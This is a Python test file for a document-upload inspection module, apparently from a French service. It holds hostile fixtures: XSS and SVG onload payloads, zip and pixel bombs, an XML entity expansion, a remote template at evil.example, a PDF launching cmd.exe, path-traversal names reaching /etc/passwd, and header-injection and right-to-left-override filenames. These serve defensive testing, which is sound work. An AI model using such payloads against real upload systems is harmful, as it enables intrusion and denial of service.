"""What a deposited file must be. Each harmful file of the corpus is refused, each ordinary one accepted."""

import io
import struct
import zlib

import pytest

from common.errors import DomainError
from documents.inspection import inspect
from documents.names import display_name, extension
from tests.factories.documents import ODT_TYPE, WORD, a_docx, a_pdf, a_zip, an_image, an_odt, an_xlsx

ODS_TYPE = b"application/vnd.oasis.opendocument.spreadsheet"


def huge_png() -> bytes:
    """A header that announces 50 000 x 50 000 pixels, in 60 bytes."""
    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def bomb() -> bytes:
    return a_docx(**{"word/media/x.bin": b"\0" * 60_000_000})


def encrypted_zip() -> bytes:
    """The flag that says « encrypted » set on every member, in the directory and before each part."""
    content = bytearray(a_docx())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 1)
    return bytes(content)


def remote_template() -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return a_docx(**{"word/_rels/settings.xml.rels": relations.encode()})


ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Types>&b;</Types>'

GOOD = {
    "note.pdf": a_pdf,
    "facture.pdf": lambda: a_pdf(attached="factur-x.xml"),
    "photo.png": an_image,
    "photo.jpg": lambda: an_image("JPEG"),
    "photo.JPEG": lambda: an_image("JPEG"),
    "lettre.docx": a_docx,
    "tableau.xlsx": an_xlsx,
    "lettre.odt": an_odt,
    "tableau.ods": lambda: an_odt(ODS_TYPE),
}
BAD = {
    "page.html": (lambda: b"<script>alert(1)</script>", "n’est pas accepté"),
    "dessin.svg": (lambda: b'<svg onload="alert(1)"/>', "n’est pas accepté"),
    "macro.docm": (a_docx, "n’est pas accepté"),
    "macro.xlsm": (an_xlsx, "n’est pas accepté"),
    "programme.pdf.exe": (lambda: b"MZ\x90\0", "n’est pas accepté"),
    "sans-extension": (a_pdf, "n’est pas accepté"),
    "ancien.doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "n’est pas accepté"),
    "programme.pdf": (lambda: b"MZ\x90\0" + b"\0" * 600, "nommé comme un PDF"),
    "page.pdf": (lambda: b"<html><script>alert(1)</script></html>", "nommé comme un PDF"),
    "decale.pdf": (lambda: b"<script>1</script>\n" + a_pdf(), "nommé comme un PDF"),
    "image.pdf": (an_image, "contient en fait un fichier PNG"),
    "photo.png": (lambda: an_image("JPEG"), "contient en fait un fichier JPEG"),
    "photo.jpg": (lambda: b"GIF89a" + b"\0" * 100, "nommé comme un JPEG"),
    "abime.pdf": (lambda: b"%PDF-1.7\nrien de plus", "abîmé"),
    "secret.pdf": (lambda: a_pdf(password="x"), "mot de passe"),
    "script.pdf": (lambda: a_pdf(script="app.alert(1)"), "programme"),
    "lance.pdf": (lambda: a_pdf(launch="cmd.exe"), "programme"),
    "porteur.pdf": (lambda: a_pdf(attached="virus.exe"), "programme"),
    "double.pdf": (lambda: a_pdf() + a_zip({"a.class": b"x"}), "en cache un autre"),
    "double.png": (lambda: an_image() + a_zip({"a.class": b"x"}), "en cache un autre"),
    "coupe.png": (lambda: an_image(size=(900, 900))[:-200], "abîmé"),
    "coupe.jpg": (lambda: an_image("JPEG", (900, 900))[:300], "abîmé"),
    "geant.png": (huge_png, "trop grande"),
    "vrac.docx": (lambda: a_zip({"bonjour.txt": b"x"}), "nommé comme un DOCX"),
    "macros.docx": (lambda: a_docx(**{"word/vbaProject.bin": b"x"}), "macros"),
    "deguise.docx": (lambda: a_docx(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "activex.docx": (lambda: a_docx(**{"word/activeX/activeX1.xml": b"<x/>"}), "macros"),
    "distant.docx": (remote_template, "macros"),
    "entites.docx": (lambda: a_zip({"[Content_Types].xml": ENTITIES, "word/document.xml": b"<x/>"}), "abîmé"),
    "bombe.docx": (bomb, "anormalement compressé"),
    "foule.docx": (lambda: a_docx(**{f"word/{i}.xml": b"x" for i in range(5_100)}), "anormalement compressé"),
    "remonte.docx": (lambda: a_docx(**{"../../etc/passwd": b"x"}), "abîmé"),
    "secret.docx": (encrypted_zip, "mot de passe"),
    "verrou.docx": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "mot de passe"),
    "tableur.docx": (an_xlsx, "nommé comme un DOCX"),
    "coupe.docx": (lambda: a_docx()[:-30], "abîmé"),
    "texte.ods": (an_odt, "nommé comme un ODS"),
    "macros.odt": (lambda: an_odt(**{"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    "secret.odt": (lambda: an_odt(**{"META-INF/manifest.xml": b"<manifest:encryption-data/>"}), "mot de passe"),
    "modele.odt": (lambda: an_odt(ODT_TYPE + b"-template"), "nommé comme un ODT"),
}


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_files_are_accepted(name: str) -> None:
    assert inspect(io.BytesIO(GOOD[name]()), extension(name)).content_type


@pytest.mark.parametrize("name", BAD)
def test_harmful_or_false_files_are_refused_with_what_to_do(name: str) -> None:
    make, words = BAD[name]
    with pytest.raises(DomainError) as refusal:
        inspect(io.BytesIO(make()), extension(name))
    assert words in str(refusal.value)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("Délibération n° 12.pdf", "Délibération n° 12.pdf"),
        ("..\\..\\windows\\rapport.pdf", "rapport.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("facture\u202efdp.exe", "facturefdp.exe"),
        ("a\r\nSet-Cookie: x=1.pdf", "a Set-Cookie- x=1.pdf"),
        ("nul\0octet.pdf", "nuloctet.pdf"),
        ('guillemets".pdf', "guillemets-.pdf"),
        ("e\u0301te\u0301.pdf", "été.pdf"),
        ("   ...   ", "document"),
        ("", "document"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_the_name_shown_never_deceives(raw: str, shown: str) -> None:
    assert display_name(raw) == shown


def test_word_is_not_reached_by_its_type_alone() -> None:
    assert WORD in inspect(io.BytesIO(a_docx()), "docx").content_type
